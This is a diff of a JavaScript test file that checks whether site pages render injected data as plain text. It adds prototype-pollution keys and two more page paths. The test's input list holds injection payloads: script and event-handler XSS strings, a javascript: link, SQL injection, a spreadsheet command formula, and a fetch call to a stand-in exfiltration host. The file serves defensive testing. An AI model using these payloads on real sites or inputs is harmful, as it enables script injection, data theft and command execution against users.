@@ -22,6 +22,7 @@ const FENCE = "x\r\r```js\rwindow.ATTACKED = 1; fetch(`https://exfil.example/`)\
 const TEXTS = [
   FENCE, FENCE.replaceAll("\r", "\n"), "<script>window.ATTACKED = 1</script>", "<img src=x onerror=\"window.ATTACKED = 1\">", "\"><svg onload='window.ATTACKED = 1'>",
   "${window.ATTACKED = 1}", "</code></pre><script>window.ATTACKED = 1</script>", "---\ntitle: x\n---", "# Head\n\n[x](javascript:window.ATTACKED=1)", "'; drop table x; --", "=cmd|'/C calc'!A0",
+  "constructor", "__proto__",
 ];
 
 beforeAll(async () => {
@@ -62,7 +63,7 @@ afterAll(async () => {
   rmSync(folder, { recursive: true, force: true });
 });
 
-test.each(pages.map(({ path }) => path))("on %s every text of the data stays text", async (path) => {
+test.each([...pages.map(({ path }) => path), "zh/composition", "zh/value"])("on %s every text of the data stays text", async (path) => {
   const { page, faults } = await visitor.open(path);
   expect(faults).toEqual([]);
   expect(await page.evaluate(() => (globalThis as { ATTACKED?: number }).ATTACKED)).toBeUndefined();
